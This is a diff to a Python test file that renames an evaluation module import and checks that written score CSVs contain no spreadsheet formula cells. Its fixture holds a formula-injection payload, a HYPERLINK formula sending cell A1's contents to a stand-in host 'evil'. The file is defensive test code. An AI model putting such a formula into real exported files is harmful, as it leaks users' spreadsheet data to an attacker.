@@ -11,11 +11,11 @@ import numpy as np
 import pytest
 
 import fedmq
-from fedmq.cli import evaluate
 from fedmq.cli.score_output import ScoreRows, write_file
 from fedmq.evaluation.evaluate import ScoredRows
 from fedmq.party.atomic_file import csv_for_people
 from fedmq.party.configuration.data import DataSection
+from fedmq.workbench import evaluation
 
 FORMULAS = (
     '=HYPERLINK("http://evil/?"&A1)',
@@ -70,7 +70,7 @@ def test_no_cell_of_a_file_of_scores_is_a_formula(tmp_path: Path) -> None:
 def test_no_cell_of_an_evaluation_is_a_formula(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    monkeypatch.setattr(evaluate, "html_of", lambda _: "")
+    monkeypatch.setattr(evaluation, "html_of", lambda _: "")
 
     class Report:
         def model_dump_json(self, **_: object) -> str:
@@ -78,7 +78,7 @@ def test_no_cell_of_an_evaluation_is_a_formula(
 
     ones = np.ones(len(FORMULAS), np.float32)
     rows = ScoredRows(ids=FORMULAS, sets=FORMULAS, label=ones, score=-ones)
-    evaluate._write(tmp_path, Report(), rows, FORMULAS[0])  # type: ignore[arg-type]
+    evaluation._write(tmp_path, Report(), rows, FORMULAS[0])  # type: ignore[arg-type]
     written = cells((tmp_path / "scores.csv").read_text(encoding="utf-8"))
     assert not [cell for cell in written if is_formula(cell)]
     assert "-1" in written
